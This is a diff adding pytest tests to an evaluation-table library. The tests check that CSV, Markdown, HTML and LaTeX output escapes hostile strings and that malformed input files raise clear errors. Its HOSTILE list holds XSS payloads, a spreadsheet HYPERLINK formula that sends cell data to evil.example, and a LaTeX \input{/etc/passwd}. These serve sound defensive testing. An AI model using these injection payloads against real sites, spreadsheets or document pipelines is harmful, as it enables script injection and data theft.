@@ -13,8 +13,9 @@ from support.measurements import entry, measured, with_more
 from ag3d.core.errors import UserError
 from ag3d.core.files import write_json
 from ag3d.evaluation.tables import stage
-from ag3d.evaluation.tables.comparison import Column, Row, Table, Value, comparison, read_measurements
+from ag3d.evaluation.tables.comparison import Column, Row, Table, Value, comparison
 from ag3d.evaluation.tables.formats import FORMATS, read_tables, to_csv, to_html, to_latex, to_markdown, write_tables
+from ag3d.evaluation.tables.measurements import read_measurements
 from ag3d.evaluation.tables.published import read_published
 from ag3d.evaluation.tables.speed import read_speed
 
@@ -238,6 +239,84 @@ def test_different_versions_of_the_program_are_named():
     first, second = ({**measured(name, 1, 0.9), "versions": {"ag3d": name}} for name in ("1.0 abc", "1.0 def"))
     assert "different versions of the program: 1.0 abc, 1.0 def." in to_markdown(comparison([first, second]))
     assert "different versions" not in to_markdown(comparison([first, first]))
+
+
+HOSTILE = [
+    "<b><script>alert(1)</script>",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "a | b <img src=x onerror=alert(1)> [c](javascript:d) `e`",
+    "\\input{/etc/passwd} $x$ \x01\x1b[31m",
+    "two\nlines",
+    "@SUM(A1)",
+]
+
+
+def test_texts_of_others_are_only_texts(tmp_path):
+    for number, name in enumerate(HOSTILE):
+        write_json(tmp_path / f"{number}.json", measured(name, 1, 0.5))
+    found = comparison(read_measurements(sorted(tmp_path.glob("*.json"))))
+    (tmp_path / "published.yaml").write_text(
+        f"values: [{{method: {HOSTILE[0]!r}, data: D, protocol: {HOSTILE[2]!r}, source: {HOSTILE[5]!r}, image: '1.0'}}]"
+    )
+    found += read_published(tmp_path / "published.yaml")
+    html, markdown, latex = to_html(found), to_markdown(found), to_latex(found)
+    assert "<script" not in html
+    assert "<img" not in html
+    for text in (html, markdown, latex, to_csv(found)):
+        assert not {"\x01", "\x1b"} & set(text)
+        assert "two lines" in text
+    assert "<script" not in markdown
+    assert "<img" not in markdown
+    assert r"a \| b &lt;img src=x onerror=alert(1)> \[c\](javascript:d) \`e\`" in markdown
+    assert r"\textbackslash{}input\{/etc/passwd\} \$x\$ \textbackslash{}x01" in latex
+    cells = [cell for row in csv.reader(io.StringIO(to_csv(found))) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]
+    assert "'@SUM(A1)" in cells
+    write_tables(found, tmp_path / "again")
+    assert [table.title for table in read_tables(tmp_path / "again.json")] == [table.title for table in found]
+
+
+def test_numbers_below_zero_stay_numbers():
+    table = Table("t", [Column("image")], [Row(("a", "-1.5", "3"), {"image": Value(-0.25, 1e-9)})])
+    assert "t,a,-1.5,3,image,-0.25,1e-09," in to_csv([table])
+
+
+def changed(**more: object) -> dict:
+    content = measured("a", 1, 0.5)
+    content["metrics"]["frechet_embedded_image"] |= more
+    return content
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        ([], "is not a file of measurements"),
+        (3, "is not a file of measurements"),
+        ({"run": ["a"], "kimg": 1, "metrics": {}, "protocols": {}}, "'run' is of another kind"),
+        ({"run": "a", "kimg": "x", "metrics": {}, "protocols": {}}, "'kimg' is of another kind"),
+        ({"run": "a", "kimg": 1, "metrics": [], "protocols": {}}, "'metrics' is of another kind"),
+        ({"run": "a", "kimg": 1, "metrics": {"b": {}}, "protocols": {}}, "metric 'b': 'table' is missing"),
+        (changed(value="0.5"), "'value' is of another kind"),
+        (changed(value=True), "'value' is of another kind"),
+        (changed(value=10**400), "'value' is no number"),
+        (changed(fakes=1.5), "'fakes' is of another kind"),
+        (changed(deviation=[]), "'deviation' is of another kind"),
+        (changed(bias=0.1), "'dimensions' is missing"),
+        (changed(protocol_id="none"), "its protocol is missing"),
+    ],
+)
+def test_measurements_of_other_types_are_named(tmp_path, content, words):
+    write_json(tmp_path / "bad.json", content)
+    with pytest.raises(UserError, match=rf"bad\.json is not a file of measurements.*|{words}") as caught:
+        read_measurements([tmp_path / "bad.json"])
+    assert words in str(caught.value)
+
+
+@pytest.mark.parametrize("content", [3, [3], [{}], [{"columns": [], "rows": [{"cells": 3}]}], {"a": 1}])
+def test_tables_of_other_types_are_named(tmp_path, content):
+    write_json(tmp_path / "t.json", content)
+    with pytest.raises(UserError, match=r"t\.json is not a file of tables"):
+        read_tables(tmp_path / "t.json")
 
 
 @pytest.mark.skipif(
